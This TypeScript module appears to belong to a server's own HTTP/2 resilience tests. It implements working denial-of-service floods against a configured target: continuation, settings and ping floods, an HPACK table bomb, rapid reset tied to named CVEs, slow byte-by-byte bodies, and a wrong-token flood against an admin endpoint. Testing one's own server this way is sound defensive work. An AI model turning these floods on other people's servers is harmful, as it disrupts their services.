// Endless frames that are cheap to send and expensive to process.
import { createRandom } from "../../../test/random.ts";
import { END_HEADERS, END_STREAM, FRAME, fields, frame, text, uint32 } from "../../frame.ts";
import {
  type Attack,
  add,
  GRPC,
  openRaw,
  pause,
  request,
  type Tally,
  type Target,
  WATCH,
  writeAll,
} from "../target.ts";

const PATH = "/api/public/settings";

/**
 * Writes the results of a function repeatedly, over two connections at a time, each of them a new
 * one when the server closes it or the result is empty.
 *
 * @param next creates the function for a connection, from its number.
 */
function flood(next: (target: Target, round: number) => (count: number) => Buffer): Attack {
  return async (target, signal) => {
    const tally: Tally = { connections: 0, "MB sent": 0 };
    const one = async (): Promise<void> => {
      for (let round = 0; round < 200 && !signal.aborted; round += 1) {
        const socket = await openRaw(target);
        add(tally, "connections");
        const make = next(target, round);
        for (let count = 0; ; count += 1) {
          const bytes = make(count);
          if (bytes.length === 0 || !(await writeAll(socket, bytes, signal))) break;
          add(tally, "MB sent", bytes.length / 1e6);
          // Lets events of the socket run, such as a close by the server.
          if (count % 16 === 0) await pause(0, signal);
        }
        socket.destroy();
      }
    };
    await Promise.all([one(), one()]);
    return tally;
  };
}

/** A request with endless headers (CVE-2024-27316 and others). */
export const continuationFlood = flood(({ seed }, round) => {
  const random = createRandom(seed + round);
  return (count) => {
    if (count === 0) return frame(FRAME.headers, 0, 1, fields(request(PATH, {}, "GET")));
    const name = `x-${random.below(1e9).toString(36)}`;
    return frame(FRAME.continuation, 0, 1, fields({ [name]: "v".repeat(4_000) }));
  };
});

/** Settings, each of which has to be acknowledged (CVE-2019-9515). */
export const settingsFlood = flood(() => () => repeat(64, () => frame(FRAME.settings, 0, 0)));

/** Pings, each of which has to be answered (CVE-2019-9512). */
export const pingFlood = flood(
  () => () => repeat(64, () => frame(FRAME.ping, 0, 0, Buffer.alloc(8, 7))),
);

/**
 * A field of 4 kB in the dynamic table, and requests that reference it hundreds of times, a byte
 * each.
 */
export const hpackBomb = flood(() => {
  let stream = -1;
  return (count) => {
    stream += 2;
    const plain = fields(request(PATH, {}, "GET"));
    // Literal with indexing (RFC 7541, section 6.2.1); 62 is the newest entry of the table then.
    const kept = Buffer.concat([Buffer.of(0x40), text("x-bomb"), text("b".repeat(3_900))]);
    const block = Buffer.concat([plain, count === 0 ? kept : Buffer.alloc(4_000, 0x80 | 62)]);
    return frame(FRAME.headers, END_HEADERS | END_STREAM, stream, block);
  };
});

/** Requests that are reset at once (CVE-2023-44487). */
export const rapidReset = flood(() => {
  let stream = -1;
  return () => {
    if (stream > 20_000) return Buffer.of();
    return repeat(16, () => {
      stream += 2;
      const head = fields(request(WATCH, GRPC));
      return Buffer.concat([
        frame(FRAME.headers, END_HEADERS, stream, head),
        frame(FRAME.data, END_STREAM, stream, Buffer.alloc(5)),
        frame(FRAME.reset, 0, stream, uint32(8)),
      ]);
    });
  };
});

/**
 * Bodies sent byte by byte, each byte between 48 kB of meaningless frames: a server that keeps
 * views of its read buffers retains all of them.
 */
export const slivers = flood(() => {
  const streams = 200;
  const noise = repeat(3, () => frame(UNKNOWN, 0, 0, Buffer.alloc(16_000)));
  const head = fields(
    request("/mooring.v1.PublicService/GetPublicSettings", { "content-type": "application/json" }),
  );
  return (count) => {
    const stream = 1 + 2 * (count % streams);
    const sliver = frame(FRAME.data, 0, stream, Buffer.from(" "));
    if (count >= streams) return Buffer.concat([noise, sliver]);
    return Buffer.concat([frame(FRAME.headers, END_HEADERS, stream, head), sliver]);
  };
});

/** An undefined frame type, which has to be ignored (RFC 9113, section 4.1). */
const UNKNOWN = 0x42;

/** Wrong tokens, as fast as the server refuses them. */
export const wrongTokens = flood(({ seed }, round) => {
  const random = createRandom(seed + round);
  let stream = -1;
  return () =>
    repeat(8, () => {
      stream += 2;
      const authorization = `mooring-${random.below(1e15).toString(36)}`;
      const head = fields(request("/api/admin/setting/list", { authorization }, "GET"));
      return frame(FRAME.headers, END_HEADERS | END_STREAM, stream, head);
    });
});

function repeat(times: number, make: () => Buffer): Buffer {
  return Buffer.concat(Array.from({ length: times }, make));
}
